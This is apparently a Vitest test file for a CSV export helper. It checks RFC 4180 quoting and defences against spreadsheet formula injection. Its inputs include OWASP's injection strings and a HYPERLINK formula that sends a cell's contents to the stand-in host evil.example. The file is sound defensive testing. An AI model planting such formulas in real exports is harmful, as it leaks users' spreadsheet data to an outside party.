import { describe, expect, it } from 'vitest';
import { csvCell, toCsv } from './csv';

describe('csvCell', () => {
  it('quotes only what RFC 4180 asks to, doubling quotes', () => {
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('a, b')).toBe('"a, b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('line\nbreak')).toBe('"line\nbreak"');
    expect(csvCell('cr\rhere')).toBe('"cr\rhere"');
    expect(csvCell(null)).toBe('');
    expect(csvCell(0)).toBe('0');
    expect(csvCell(false)).toBe('false');
  });

  it('defuses text a spreadsheet would run as a formula, and only at the start', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) {
      expect(csvCell(`${start}1+1`).replace(/^"/, '')).toMatch(/^'/);
    }
    expect(csvCell('=SUM(A1:A2)')).toBe("'=SUM(A1:A2)");
    expect(csvCell('=1,2')).toBe(`"'=1,2"`);
    expect(csvCell('a=b')).toBe('a=b');
    expect(csvCell('Ñúñez')).toBe('Ñúñez');
  });

  it('defuses a line feed at the start too (OWASP lists 0x0A beside tab and carriage return)', () => {
    expect(csvCell('\n=1+1')).toBe(`"'\n=1+1"`);
  });

  // OWASP, CSV Injection: "it is not sufficient to make sure that the untrusted user input does not start
  // with these characters. You also need to take care of the field separator (e.g., ',' or ';')". A
  // spreadsheet that splits on ';' or tab as well as ',' would cut an unquoted `Springfield;=HYPERLINK(…)` in
  // two, the second cell a formula; quoted, it stays one text cell.
  it('quotes text holding a semicolon or a tab, so no other separator can start a cell inside it', () => {
    expect(csvCell('Springfield;=HYPERLINK("https://evil.example/?"&A1)')).toBe('"Springfield;=HYPERLINK(""https://evil.example/?""&A1)"');
    expect(csvCell('a;b')).toBe('"a;b"');
    expect(csvCell('a\t=1+1')).toBe('"a\t=1+1"');
    // OWASP's two examples.
    expect(csvCell('=1+2";=1+2')).toBe(`"'=1+2"";=1+2"`);
    expect(csvCell(`=1+2'" ;,=1+2`)).toBe(`"'=1+2'"" ;,=1+2"`);
  });
});

describe('toCsv', () => {
  it('starts with a byte-order mark and ends every line with CRLF', () => {
    expect(
      toCsv(
        ['a', 'b'],
        [
          ['1', null],
          ['x,y', true],
        ],
      ),
    ).toBe('\uFEFFa,b\r\n1,\r\n"x,y",true\r\n');
  });
});
